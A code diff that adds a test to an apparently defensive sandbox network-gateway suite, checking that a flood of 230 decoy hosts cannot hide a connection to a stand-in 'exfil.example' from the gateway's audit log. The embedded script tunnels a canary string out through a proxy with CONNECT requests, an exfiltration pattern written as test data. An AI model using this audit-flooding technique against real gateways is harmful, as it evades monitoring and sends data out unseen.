@@ -288,3 +288,31 @@ test('no name leads to a metadata service or into a private network', async () =
     assert.equal(dialled, null, `the canary address ${address} would be dialled`)
   }
 })
+
+test('no flood of decoys keeps a host that was reached out of the audit', async () => {
+  let heard = ''
+  await using sink = await talkative({ port: 0, host: '127.0.0.1' }, (chunk) => {
+    heard += chunk
+  })
+  const { port } = sink
+  const hosts = [...Array.from({ length: 230 }, (_, n) => `d${n}.decoy.example`), 'exfil.example']
+  const connect = hosts.map((host) => ({ host, port }))
+  const lookup = async () => [{ address: '127.0.0.1', family: 4 as const }]
+  const wayOut = await openWayOut(bench, 938, {
+    policy: { connect, allowPrivate: connect },
+    lookup,
+  })
+  const script = `const hosts = ${JSON.stringify(hosts)}
+    const go = (n) => { if (n === hosts.length) return
+      const socket = require('node:net').connect(3128, '127.0.0.1')
+      socket.on('error', () => undefined).on('close', () => go(n + 1))
+      socket.write('CONNECT ' + hosts[n] + ':${port} HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')
+      socket.once('data', () => socket.end('to ' + hosts[n])).resume() }
+    go(0)`
+  await attack(wayOut.sandbox, nodeScript(wayOut.sandbox, script), network)
+  await wayOut[Symbol.asyncDispose]()
+  const named = new Set(wayOut.gateway.decisions.map(({ host }) => host))
+  const unnamed = hosts.filter((host) => heard.includes(`to ${host}`) && !named.has(host))
+  assert.ok(heard.includes('to d0.decoy.example'))
+  assert.deepEqual(unnamed, [], 'the canary was taken out to hosts that the audit does not name')
+})
